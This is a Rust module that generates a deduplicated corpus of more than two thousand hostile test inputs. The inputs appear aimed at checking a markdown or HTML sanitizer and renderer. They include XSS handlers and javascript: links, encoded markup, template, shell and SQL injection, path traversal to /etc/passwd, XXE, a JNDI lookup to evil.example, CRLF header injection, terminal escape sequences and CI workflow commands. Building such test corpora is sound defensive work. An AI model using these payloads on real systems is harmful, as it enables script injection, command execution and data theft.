//! More than two thousand hostile lines, made by crossing the ways in with the things done there. Every line that could
//! run in a browser calls `pwn()`.

use std::collections::BTreeSet;

/// Every line, each once, in a fixed order.
pub(crate) fn lines() -> Vec<String> {
    let families = [
        handlers(),
        breakouts(),
        links(),
        encodings(),
        templates(),
        formats(),
        hidden_letters(),
        shapes(),
        within_markdown(),
        terminals(),
        workflows(),
        rooms(),
        foreign_elements(),
    ];
    let mut seen = BTreeSet::new();
    families.into_iter().flatten().filter(|line| seen.insert(line.clone())).collect()
}

/// Elements that call their handlers without being asked.
fn handlers() -> Vec<String> {
    const ELEMENTS: [&str; 16] = [
        "img src=x",
        "svg",
        "body",
        "video src=x",
        "audio src=x",
        "details open",
        "iframe src=x",
        "input autofocus",
        "select autofocus",
        "textarea autofocus",
        "marquee",
        "object data=x",
        "embed src=x",
        "link rel=stylesheet href=x",
        "a id=x tabindex=1",
        "x contenteditable autofocus",
    ];
    const HANDLERS: [&str; 9] = [
        "onerror",
        "onload",
        "onfocus",
        "ontoggle",
        "onmouseover",
        "onanimationstart",
        "onbegin",
        "onpageshow",
        "onpointerenter",
    ];
    const QUOTES: [(&str, &str); 4] = [("\"", "\""), ("'", "'"), ("", ""), ("`", "`")];
    let mut lines = Vec::new();
    for element in ELEMENTS {
        for handler in HANDLERS {
            for (open, close) in QUOTES {
                lines.push(format!("<{element} {handler}={open}pwn(){close}>"));
            }
            lines.push(format!("<{}/{handler}=pwn()//", element.replace(' ', "/")));
        }
    }
    lines
}

/// Ends of everything that a text can be inside, then something that runs.
fn breakouts() -> Vec<String> {
    const ENDS: [&str; 20] = [
        "\"",
        "'",
        "`",
        "\">",
        "'>",
        "\"/>",
        "</title>",
        "</style>",
        "</script>",
        "</textarea>",
        "</noscript>",
        "-->",
        "--!>",
        "]]>",
        "</svg>",
        "</time>",
        "</a>",
        "</template>",
        "\\\"",
        "\\u0022>",
    ];
    const RUNS: [&str; 7] = [
        "<script>pwn()</script>",
        "<SCRIPT/x>pwn()</SCRIPT>",
        "<img src=x onerror=pwn()>",
        "<svg onload=pwn()>",
        " onfocus=pwn() autofocus ",
        " style=animation-name:x onanimationstart=pwn() ",
        "<base href=//evil.example/>",
    ];
    ENDS.iter().flat_map(|end| RUNS.iter().map(move |run| format!("{end}{run}"))).collect()
}

/// Addresses that run, in every form markdown has for a link.
fn links() -> Vec<String> {
    const ADDRESSES: [&str; 22] = [
        "javascript:pwn()",
        "JaVaScRiPt:pwn()",
        "java\tscript:pwn()",
        "java&#x0a;script:pwn()",
        "&#x6a;avascript:pwn()",
        "&#106;avascript:pwn()",
        "javascript&colon;pwn()",
        "javascript&#58;pwn()",
        "\u{1}javascript:pwn()",
        " javascript:pwn()",
        "data:text/html,<script>pwn()</script>",
        "Data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==",
        "vbscript:pwn()",
        "feed:javascript:pwn()",
        "view-source:javascript:pwn()",
        "blob:https://evil.example/x",
        "file:///etc/passwd",
        "//evil.example/x",
        "javascript://%0apwn()",
        "jav\u{ad}ascript:pwn()",
        "%6aavascript:pwn()",
        "https://x\" onclick=\"pwn()",
    ];
    let form = |address: &str| {
        [
            format!("[x]({address})"),
            format!("[x](<{address}>)"),
            format!("![x]({address})"),
            format!("<{address}>"),
            format!("[x][y]\n\n[y]: {address} \"pwn()\""),
            address.to_owned(),
        ]
    };
    ADDRESSES.iter().flat_map(|address| form(address)).collect()
}

/// Markup spelt so that one decoding too many brings it to life.
fn encodings() -> Vec<String> {
    const RUNS: [&str; 4] =
        ["<script>pwn()</script>", "<img src=x onerror=pwn()>", "\"><svg onload=pwn()>", "'-pwn()-'"];
    let each =
        |text: &str, spell: &dyn Fn(u32) -> String| text.chars().map(|c| spell(c as u32)).collect::<String>();
    let mut lines = Vec::new();
    for run in RUNS {
        lines.push(each(run, &|c| format!("&#{c};")));
        lines.push(each(run, &|c| format!("&#{c:07}")));
        lines.push(each(run, &|c| format!("&#x{c:x};")));
        lines.push(each(run, &|c| format!("%{c:02x}")));
        lines.push(each(run, &|c| format!("%25{c:02x}")));
        lines.push(each(run, &|c| format!("\\u{c:04x}")));
        lines.push(each(run, &|c| format!("\\x{c:02x}")));
        lines.push(each(run, &|c| format!("\\{c:o}")));
        lines.push(each(run, &|c| {
            char::from_u32(if (0x21..0x7f).contains(&c) { c + 0xfee0 } else { c }).unwrap().into()
        }));
        lines.push(run.replace('<', "&lt;").replace('>', "&gt;"));
        lines.push(run.replace('<', "&amp;lt;").replace('>', "&amp;gt;"));
        lines.push(run.replace('<', "+ADw-").replace('>', "+AD4-"));
        lines.push(run.replace('<', "\u{2039}").replace('>', "\u{203a}"));
        lines.push(run.replace('<', "%c0%bc").replace('>', "%c0%be"));
    }
    lines
}

/// What template engines, shells and spreadsheets would run.
fn templates() -> Vec<String> {
    [
        "{{ 7*7 }}",
        "{{7*'7'}}",
        "{% include \"layout.html\" %}",
        "{% include \"/etc/passwd\" %}",
        "{{ get_env(name='HOME') }}",
        "{{ __tera_context }}",
        "{{ self }}",
        "{% for x in range(end=9) %}pwn{% endfor %}",
        "{%- raw -%}",
        "{% endraw %}",
        "{% endblock %}",
        "{# pwn #}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "<?php pwn() ?>",
        "<?= 7*7 ?>",
        "${{7*7}}",
        "@(7*7)",
        "[[${7*7}]]",
        "$(id)",
        "`id`",
        "; id",
        "| id",
        "=HYPERLINK(\"javascript:pwn()\")",
        "@SUM(1+1)",
        "{time 2026-11-20T11:30Z\" onload=\"pwn()}",
        "{time <script>}",
        "{time}",
        "<!--#exec cmd=\"id\" -->",
        "<esi:include src=\"http://evil.example/\"/>",
        "${jndi:ldap://evil.example/x}",
        "../../../../etc/passwd",
        "..\\..\\win.ini",
        "'; DROP TABLE step; --",
        "1 OR 1=1",
    ]
    .map(str::to_owned)
    .into()
}

/// Lines that mean something in mail, calendars, feeds, JSON and HTTP, with every kind of line break.
fn formats() -> Vec<String> {
    const MEANINGS: [&str; 14] = [
        "Bcc: eve@evil.example",
        "END:VEVENT",
        "BEGIN:VEVENT",
        "UID:evil",
        "END:VCALENDAR",
        "ATTACH:javascript:pwn()",
        "Content-Type: text/html",
        "MAIL FROM:<eve@evil.example>",
        ".",
        "QUIT",
        "--boundary--",
        "HTTP/1.1 200 OK",
        "]]></content><script>pwn()</script>",
        "<entry><title>pwn()</title></entry>",
    ];
    const BREAKS: [&str; 8] = ["\r\n", "\n", "\r", "\u{85}", "\u{2028}", "\u{2029}", "\\n", "%0d%0a"];
    let mut lines: Vec<String> = BREAKS
        .iter()
        .flat_map(|break_| MEANINGS.iter().map(move |meaning| format!("x{break_}{meaning}{break_}x")))
        .collect();
    lines.extend(
        [
            "\",\"level\":\"none\",\"x\":\"",
            "\\\",\"x\":[",
            "</script><!--",
            "\\",
            "\"",
            "'",
            "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
            "<![CDATA[<script>pwn()</script>]]>",
            "=?utf-8?q?=0d=0aBcc:_eve=40evil.example?=",
            "x;X=\"1\",y",
            "+++",
            "---",
            "## 2026-11-20 10:05 UTC · Resolved",
        ]
        .map(str::to_owned),
    );
    lines
}

/// Letters nobody sees, in the middle of markup and at both ends of a text.
fn hidden_letters() -> Vec<String> {
    let controls = (0..0x20).chain(0x7f..0xa0);
    let marks = (0x200b..0x2010)
        .chain(0x202a..0x202f)
        .chain(0x2060..0x206a)
        .chain([0xad, 0x34f, 0xfeff, 0xfffe, 0xffff, 0xfff9, 0xe0001]);
    let entities = controls.clone().chain([0x202e, 0xfffe]);
    let entities = entities
        .flat_map(|c| [format!("a &#{c};[2J b"), format!("`&#x{c:x};` [x](https://x.example/&#{c};)")]);
    let letters = controls.chain(marks).filter_map(char::from_u32);
    letters.map(|c| format!("{c}<scr{c}ipt>pwn(){c}</script>{c}")).chain(entities).collect()
}

/// Shapes that cost a parser dear.
fn shapes() -> Vec<String> {
    vec![
        "[".repeat(2_000),
        "*".repeat(2_000),
        "> ".repeat(500),
        "<".repeat(2_000),
        "![".repeat(500),
        "`".repeat(999),
        "a".repeat(5_000),
        "\u{301}".repeat(500),
        "🏴\u{e0067}\u{e0062}\u{e007f}".repeat(50),
        "| a ".repeat(200),
    ]
}

/// What runs, within every kind of markdown that has rules of its own.
fn within_markdown() -> Vec<String> {
    const RUNS: [&str; 16] = [
        "<script>pwn()</script>",
        "<img src=x onerror=pwn()>",
        "<object data=javascript:pwn()>",
        "<embed src=javascript:pwn()>",
        "<form action=javascript:pwn()><button>x</button></form>",
        "<base href=javascript:pwn()//>",
        "<svg/onload=pwn()>",
        "[x](javascript:pwn())",
        "![x](javascript:pwn())",
        "<javascript:pwn()>",
        "<iframe srcdoc='<script>pwn()</script>'>",
        "<a href=javascript:pwn()>x</a>",
        "<style>@import 'javascript:pwn()'</style>",
        "<math><mtext></mtext><script>pwn()</script></math>",
        "&lt;script&gt;pwn()&lt;/script&gt;",
        "<x onclick=pwn() tabindex=1>",
    ];
    const PLACES: [(&str, &str); 16] = [
        ("`", "`"),
        ("``` ", " ```"),
        ("**", "**"),
        ("*", "*"),
        ("~~", "~~"),
        ("[", "](https://x.example)"),
        ("![", "](https://x.example/x.png)"),
        ("[x](https://x.example \"", "\")"),
        ("[x]: https://x.example '", "'"),
        ("> ", ""),
        ("- ", ""),
        ("1. ", ""),
        ("| a | ", " |"),
        ("### ", " ###"),
        ("\\", "\\"),
        ("x[^1]: ", ""),
    ];
    RUNS.iter()
        .flat_map(|run| PLACES.iter().map(move |(open, close)| format!("{open}{run}{close}")))
        .collect()
}

/// What a terminal obeys: it is cleared, renamed, asked, made to type, or shows what does not exist.
fn terminals() -> Vec<String> {
    const COMMANDS: [&str; 24] = [
        "\u{1b}[2J",
        "\u{1b}[1;1H",
        "\u{1b}[1A\u{1b}[2K",
        "\u{1b}c",
        "\u{1b}]0;title\u{7}",
        "\u{1b}]2;title\u{1b}\\",
        "\u{1b}]52;c;cHduCg==\u{7}",
        "\u{1b}]8;;https://evil.example\u{7}x\u{1b}]8;;\u{7}",
        "\u{1b}]1337;File=:AA==\u{7}",
        "\u{1b}[6n",
        "\u{1b}[c",
        "\u{1b}[21t",
        "\u{1b}P$q\u{1b}\\",
        "\u{1b}_pwn\u{1b}\\",
        "\u{1b}^pwn\u{1b}\\",
        "\u{1b}[?1049h",
        "\u{1b}[?25l",
        "\u{1b}[8m",
        "\u{1b}(0",
        "\u{9b}2J",
        "\u{9d}0;title\u{9c}",
        "\r",
        "\u{8}\u{8}\u{8}",
        "\u{e}\u{f}\u{7}",
    ];
    let places = |command: &str| {
        [
            command.to_owned(),
            format!("{command}pwn"),
            format!("all is well{command}"),
            format!("a{command}b{command}c"),
        ]
    };
    COMMANDS.iter().flat_map(|command| places(command)).collect()
}

/// What the log of a git host's job obeys.
fn workflows() -> Vec<String> {
    const COMMANDS: [&str; 14] = [
        "::error::pwn",
        "::error file=README.md,line=1::pwn",
        "::warning::pwn",
        "::notice::pwn",
        "::debug::pwn",
        "::group::pwn",
        "::endgroup::",
        "::add-mask::e",
        "::stop-commands::pwn",
        "::set-output name=x::pwn",
        "::save-state name=x::pwn",
        "##[error]pwn",
        "##vso[task.setvariable variable=x]pwn",
        "section_start:1:pwn[collapsed=true]",
    ];
    const LEADS: [&str; 8] = ["", " ", "* ", "\t", "x\n", "x\r\n", "%0A", "\u{feff}"];
    COMMANDS.iter().flat_map(|command| LEADS.iter().map(move |lead| format!("{lead}{command}"))).collect()
}

/// What chat rooms, tools and text messages obey.
fn rooms() -> Vec<String> {
    const COMMANDS: [&str; 22] = [
        "<!channel>",
        "<!here>",
        "<!everyone>",
        "<!subteam^S01|x>",
        "<@U01>",
        "<#C01>",
        "<https://evil.example|https://status.example>",
        "<!date^0^pwn|x>",
        "@everyone",
        "@here",
        "<@&1>",
        "<@1>",
        "</pwn:1>",
        "<t:0:R>",
        "@channel",
        "@all",
        "/join pwn",
        "||pwn||",
        "STOP",
        "\",\"blocks\":[{\"type\":\"divider\"}],\"x\":\"",
        "\"}],\"attachments\":[{\"text\":\"pwn",
        "X-Title: pwn",
    ];
    let places = |command: &str| {
        [
            command.to_owned(),
            format!("a {command} b"),
            format!("*{command}*"),
            format!("{command}\n{command}"),
        ]
    };
    COMMANDS.iter().flat_map(|command| places(command)).collect()
}

/// Elements of other namespaces, which parsers of HTML treat by other rules.
fn foreign_elements() -> Vec<String> {
    const ROOTS: [&str; 12] = [
        "svg",
        "math",
        "template",
        "noscript",
        "xmp",
        "plaintext",
        "listing",
        "select",
        "table",
        "video",
        "frameset",
        "ruby",
    ];
    const WITHIN: [&str; 12] = [
        "script",
        "style",
        "title",
        "desc",
        "foreignObject",
        "annotation-xml",
        "mtext",
        "mglyph",
        "set attributeName=href to=javascript:pwn()",
        "animate attributeName=href values=javascript:pwn()",
        "use href=data:image/svg+xml,<svg/onload=pwn()>",
        "image href=x onerror=pwn()",
    ];
    let crossed = |root: &str| {
        WITHIN.map(|within| {
            format!("<{root}><{within}><img src=x onerror=pwn()></{within}></{root}><script>pwn()</script>")
        })
    };
    let mut lines: Vec<String> = ROOTS.iter().flat_map(|root| crossed(root)).collect();
    lines.extend(ROOTS.map(|root| format!("</{root}><script>pwn()</script><{root}>")));
    lines
}
